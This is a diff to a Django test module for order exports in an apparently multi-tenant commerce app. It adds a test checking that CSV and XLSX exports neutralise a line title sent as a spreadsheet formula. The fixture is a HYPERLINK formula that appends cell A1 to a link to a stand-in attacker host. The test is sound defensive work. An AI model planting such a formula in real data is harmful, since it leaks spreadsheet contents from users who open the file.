@@ -16,6 +16,7 @@ from django.db.models import Sum
 from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
+from openpyxl import load_workbook
 
 from acorn.tenancy.models import Membership, Tenant
 from acorn.tenancy.scoping import tenant_scope
@@ -235,8 +236,6 @@ def test_exports_carry_adjustment_rows_whose_row_totals_make_each_order_total(
     # yen without decimals, euro with two
     assert by_order["JP-1"][0]["Order total"] == "2708" and by_order["WC-2726"][0]["Order total"] == "35.17"
 
-    from openpyxl import load_workbook
-
     xlsx = owner_client.get(URL + "export.xlsx")
     sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
     assert sheet is not None
@@ -245,3 +244,25 @@ def test_exports_carry_adjustment_rows_whose_row_totals_make_each_order_total(
     formats = {row[0].value: row[total_column].number_format for row in sheet.iter_rows(min_row=2) if row[0].value}
     assert formats["JP-1"] == "#,##0" and formats["WC-2726"] == "#,##0.00"
     assert sum(1 for _ in sheet.iter_rows()) == 1 + len(rows)
+
+
+def test_the_order_exports_neutralise_a_channel_title_that_looks_like_a_formula(
+    owner_client: Client, tenant: Tenant
+) -> None:
+    # given an order whose line title the channel sent as a formula
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    order = _order("WC-3001")
+    order = replace(order, lines=(replace(order.lines[0], title=formula),))
+    with tenant_scope(tenant):
+        order_upsert_page(store=StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[]), orders=[order])
+    # when
+    body = b"".join(owner_client.get(URL + "export.csv").streaming_content).decode("utf-8").lstrip("\ufeff")
+    xlsx = owner_client.get(URL + "export.xlsx")
+    # then: an apostrophe in the CSV, a string cell in the workbook; the amounts stay numbers
+    line = next(row for row in csv.DictReader(io.StringIO(body)) if row["Row"] == "Line")
+    assert line["Title"] == "'" + formula and line["Row total"] == "29.34"
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    rows = list(sheet.iter_rows())
+    title = [cell.value for cell in rows[0]].index("Title")
+    cell = next(row[title] for row in rows[1:] if row[title].value)
+    assert cell.value == formula and cell.data_type == "s"
